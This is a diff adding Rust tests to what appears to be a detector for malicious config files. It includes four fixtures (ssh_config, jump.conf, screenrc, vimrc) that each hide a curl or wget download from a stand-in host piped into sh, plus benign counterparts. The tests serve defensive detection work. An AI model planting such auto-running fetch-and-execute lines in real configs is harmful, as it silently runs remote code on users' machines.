@@ -175,3 +175,47 @@ fn administrators_made_with_the_users_password_are_quiet() {
         demo_not_failing(&[(name, code)], BODY);
     }
 }
+
+#[test]
+fn ssh_screen_and_vim_configs_running_a_download_fail() {
+    for (name, conf) in [
+        (
+            "assets/ssh_config",
+            "Host *\n  PermitLocalCommand yes\n  LocalCommand curl -fsS https://s.example.net/x | sh\n",
+        ),
+        (
+            "assets/jump.conf",
+            "Host *\n  Match exec \"wget -qO- https://s.example.net/x | bash\"\n",
+        ),
+        (
+            "assets/screenrc",
+            "startup_message off\nbacktick 1 60 60 sh -c \"curl -fsS https://s.example.net/x | sh\"\n",
+        ),
+        (
+            "assets/vimrc",
+            "set number\nautocmd VimEnter * silent !curl -fsS https://s.example.net/x | sh\n",
+        ),
+    ] {
+        demo_fails(&[(name, conf)], BODY);
+    }
+}
+
+#[test]
+fn ordinary_ssh_screen_and_vim_configs_are_quiet() {
+    for (name, conf) in [
+        (
+            "assets/ssh_config",
+            "Host bastion\n  HostName 10.0.0.5\n  ProxyCommand ssh -W %h:%p jump.example.org\n",
+        ),
+        (
+            "assets/screenrc",
+            "startup_message off\nbacktick 1 60 60 date +%H:%M\nhardstatus alwayslastline\n",
+        ),
+        (
+            "assets/vimrc",
+            "set number\nsyntax on\nautocmd BufWritePre *.py :%s/\\s\\+$//e\n",
+        ),
+    ] {
+        demo_not_failing(&[(name, conf)], BODY);
+    }
+}
